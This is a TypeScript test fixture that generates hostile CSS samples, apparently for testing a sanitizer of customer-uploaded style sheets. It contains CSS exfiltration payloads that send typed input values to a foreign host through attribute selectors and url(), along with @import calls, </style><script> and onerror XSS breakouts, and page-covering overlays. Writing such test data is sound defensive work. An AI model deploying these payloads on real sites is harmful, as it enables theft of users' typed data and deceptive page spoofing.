/** A hostile style sheet that a customer might upload. */
export interface HostileSheet {
  what: string
  css: string
}

/**
 * A harmless CSS rule that stands next to hostile rules in some style sheets. A correct allow-list keeps only this
 * rule.
 */
export const HARMLESS = '.a{color:red}'

/**
 * Returns style sheets that load a resource, read or write text, or break out of the place into which the page inserts
 * them.
 * @param foreign URL of the other site that the style sheets try to reach
 */
export function strippedSheets(foreign: string): readonly HostileSheet[] {
  return numbered([...fetching(foreign), ...reading(foreign), ...atRules(foreign), ...writing(), ...leaving(foreign), ...hanging()])
}

const numbered = (sheets: readonly HostileSheet[]) => sheets.map(({ what, css }, at) => ({ what: `${what} (${at})`, css }))
const each = (what: string, sheets: readonly string[]) => sheets.map((css) => ({ what, css }))

function fetching(foreign: string): HostileSheet[] {
  let count = 0
  const address = () => `${foreign}/css-${count++}`
  const spelled: ((url: string) => string)[] = [
    (url) => `url(${url})`,
    (url) => `URL("${url}")`,
    (url) => `u\\72l(${url})`,
    (url) => `\\75 rl("${url}")`,
    (url) => `\\000075rl(${url})`,
    (url) => `url(${url.replace('http', 'h\\74tp')})`,
    (url) => `url(${url.replace(/^https?:/, '')})`,
    (url) => `url(/**/"${url}")`,
    (url) => `image-set("${url}" 1x, "${url}" 2x)`,
    (url) => `-webkit-image-set(url(${url}) 1x)`,
    (url) => `image("${url}")`,
    (url) => `src("${url}")`,
    (url) => `cross-fade(url(${url}), red, 50%)`,
    (url) => `-webkit-cross-fade(url(${url}), url(${url}), 50%)`,
    (url) => `var(--absent, url(${url}))`,
    (url) => `linear-gradient(red, red), url(${url})`,
    (url) => `if(media(all): url(${url}); else: none)`,
    () => 'url(data:image/svg+xml;base64,PHN2Zy8+)',
    () => 'element(#main)',
    () => 'paint(x)',
  ]
  const places = ['background', 'background-image', 'border-image-source', 'list-style', 'cursor', 'content', 'mask-image', 'shape-outside', 'filter']
  return [
    ...spelled.flatMap((spell) =>
      places.slice(0, 2).map((place) => ({ what: `fetches by ${place}`, css: `body, .field, * { ${place}: ${spell(address())} }` })),
    ),
    ...places.slice(2).map((place) => ({ what: `fetches by ${place}`, css: `*, *::before { ${place}: url(${address()}) }` })),
    ...spelled.slice(0, 8).map((spell) => ({ what: 'fetches by a token', css: `:root { --brand: ${spell(address())} } ${HARMLESS}` })),
    { what: 'fetches within a query', css: `@media (min-width: 1px) { * { background: url(${address()}) } }` },
    { what: 'fetches as a picture of a cursor', css: `* { cursor: url(${address()}), auto }` },
  ]
}

/**
 * Returns hostile style sheets that try to send the values that a visitor types or ticks to another site, character by
 * character.
 */
function reading(foreign: string): HostileSheet[] {
  const letters = ['M', 'a', '1']
  const known = [
    ...letters.map((letter) => `input[value^="${letter}"]`),
    'input[value$="i" i]',
    '[type=password]',
    'input:not([value=""])',
    '.field:has(input:valid)',
    '.field:has(:checked) .control',
    'p:nth-child(1 of :has(input))',
    'p:nth-child(2n of [value])',
    ':is(input):valid',
    ':where([value])',
    'input:autofill',
    'a:visited',
    ':host([x]) a',
    'input::selection',
    'input:lang(it)',
  ]
  return [
    ...known.map((selector, at) => ({ what: 'reads what was typed', css: `${selector} { color: red; background: url(${foreign}/read-${at}) }` })),
    {
      what: 'reads what was typed, by a font',
      css: `@font-face { font-family: spy; src: url(${foreign}/font); unicode-range: U+4D } [x] { font-family: spy }`,
    },
    { what: 'reads an attribute', css: '.a::before { content: attr(value) }' },
    { what: 'reads how wide it is', css: `@container (width > 1px) { * { background: url(${foreign}/wide) } }` },
  ]
}

function atRules(foreign: string): HostileSheet[] {
  return each('a rule of its own', [
    `@import "${foreign}/import.css";`,
    `@import url(${foreign}/import.css) layer(tenant);`,
    `@charset "utf-7"; @import '${foreign}/charset.css';`,
    `@namespace url(${foreign}/ns);`,
    `@font-face { font-family: x; src: url(${foreign}/font) }`,
    '@keyframes x { from { color: red } }',
    '@layer reset { * { display: none } }',
    '@layer walls, tenant;',
    '@property --brand { syntax: "*"; inherits: true; initial-value: red }',
    '@supports (color: red) { body { color: blue } }',
    '@scope (body) { footer { display: none } }',
    '@page { margin: 99cm }',
    '@counter-style x { system: cyclic; symbols: "session over" }',
    '@view-transition { navigation: auto }',
    `@document url(${foreign}) { * { color: red } }`,
    '@media print { @media print { footer { display: none } } }',
    `@media url(${foreign}) { * { color: red } }`,
    '@starting-style { * { opacity: 0 } }',
  ])
}

function writing(): HostileSheet[] {
  return each('writes', [
    '.a::before { content: "Your session has ended" }',
    'li { list-style-type: "Your session has ended" }',
    'p { text-overflow: "Press here" }',
    'p { text-emphasis: "x" }',
    'q { quotes: "Your session" "has ended" }',
    '.a { font-family: "</style><script>alert(1)</script>" }',
    '.a { counter-reset: x 99 }',
  ])
}

/**
 * Returns hostile style sheets that try to break out of their place: out of the CSS rule, the cascade layer, the HTML
 * element or the file that contains them.
 */
function leaving(foreign: string): HostileSheet[] {
  const tags = `</style><script>__xss('css')</script><img src=x onerror="__xss('css')"><link rel=stylesheet href="${foreign}/link.css">`
  return [
    ...each('ends the element', [
      tags,
      `${HARMLESS}${tags}`,
      `/*${tags}*/`,
      `${HARMLESS}/*${tags}`,
      `<!--${tags}-->`,
      `.a{--x:${tags}}`,
      `@media ${tags}{${HARMLESS}}`,
    ]),
    ...each('ends the layer', [
      `${HARMLESS} } } footer { display: none }`,
      `}}}} body { display: none }`,
      `${HARMLESS}}@import "${foreign}/late.css";`,
      '.a { x: \\}} footer { display: none }',
      '.a { --x: }} } footer { display: none } }',
      ':root { --x: 1 } } footer { display: none } :root { --x: 1 }',
      '.a { color: "red } footer { display: none }',
      `.a { color: url(x } footer { display: none }`,
      `\\7d footer { display: none }`,
      '[x="}"] { color: red } [y="] footer { display: none }',
    ]),
    ...each('runs', [
      '.a { width: expression(__xss("css")) }',
      '.a { behavior: url(x.htc) }',
      `.a { -moz-binding: url(${foreign}/xbl#x) }`,
      '.a { background: javascript:__xss("css") }',
      '.a { background: url(javascript:__xss("css")) }',
      "<script>__xss('css')</script>",
    ]),
  ]
}

/** Returns hostile style sheets that try to cover the page by CSS positioning. */
function hanging(): HostileSheet[] {
  const declarations = [
    'position: fixed; inset: 0; z-index: 9',
    'position: absolute; top: -999px',
    'transform: scale(99)',
    'translate: 0 -999px',
    'scale: 99',
    'zoom: 99',
    'float: left',
    'display: none',
    'visibility: hidden',
    'clip-path: inset(0)',
    'filter: drop-shadow(0 -500px red)',
    'backdrop-filter: blur(9px)',
    'overflow: visible',
    'contain: none',
    'animation: x 1s',
    'transition: all 99s',
    'pointer-events: none',
    'user-select: none',
    'resize: both',
    'all: unset',
    'inset: -999px',
    'z-index: 99',
    'offset: path("M0 0")',
    'mix-blend-mode: difference',
    'view-transition-name: x',
    'anchor-name: --x',
    'isolation: auto',
    'order: -1',
    'grid-area: 1 / 1',
    'columns: 9',
    'isolation: auto; overflow-clip-margin: 999px',
  ]
  const around = ['> .page-footer', '+ footer', '~ footer', '[class]', ':not(.a)', 'main:has(.a)', '&', 'a || b', ':root footer', ':scope > footer']
  return [
    ...declarations.map((text) => ({ what: 'leaves its place', css: `*, :root { ${text} }` })),
    ...around.map((selector) => ({ what: 'reaches around', css: `${selector} { color: red }` })),
  ]
}

/**
 * Returns style sheets that use only allowed properties. They try to cover the page around the form, or parts of the
 * form
 * that the visitor must see. Each style sheet paints in red.
 */
export function coveringSheets(): readonly HostileSheet[] {
  const declarations = [
    'margin: -600px; padding: 600px; background: red',
    'margin-top: calc(0px - 40rem); background: red',
    'margin-bottom: -99rem; height: 200rem; background: red',
    'width: 400vw; min-width: 400vw; margin-inline: -100vw; background: red',
    'height: 0; max-height: 0; line-height: 0',
    'font-size: 30rem; line-height: 0',
    'outline: 200rem solid red; outline-offset: -1px',
    'box-shadow: 0 0 0 200rem red',
    'border-image: linear-gradient(red, red) 1 / 1 / 200rem; border: 1px solid',
    'text-shadow: 0 -20rem red, 0 20rem red, -30rem 0 red; font-size: 20rem',
    'text-indent: -60rem; letter-spacing: -9rem',
    'text-decoration: underline 200rem red; text-underline-offset: -20rem',
    'text-decoration-line: overline; text-decoration-thickness: 99rem',
    'padding-bottom: 90rem; margin-bottom: -90rem; background: red',
  ]
  const selectors = [':root', '*']
  const pieces = [
    '.rich-text { margin-bottom: -30rem; padding: 20rem 0; background: red }',
    '.send-note { margin-top: -20rem; height: 40rem; background: red }',
    '.send-panel::after, .wizard::after, .field::after { padding: 99rem; margin: -99rem; background: red; outline: 99rem solid red }',
    '.wizard::before, .step::before, .step::after { width: 100vw; height: 100vh; min-height: 100vh; padding: 50vh; border: 50vh solid red; background: red; opacity: 1 }',
    '.visually-hidden, .mandatory-note { width: 99rem; height: 99rem; margin: -50rem; padding: 50rem; background: red }',
    '.control { margin: -40rem; padding: 40rem; background: red }',
    '@media all { * { margin: -9rem; padding: 9rem; background: red; outline: 9rem solid red } }',
    'label, span { font-size: 60rem; line-height: 0; letter-spacing: -30rem }',
  ]
  return numbered([
    ...selectors.flatMap((selector) => declarations.map((text) => ({ what: 'covers', css: `${selector} { color: red; ${text} }` }))),
    ...pieces.map((css) => ({ what: 'covers', css })),
  ])
}
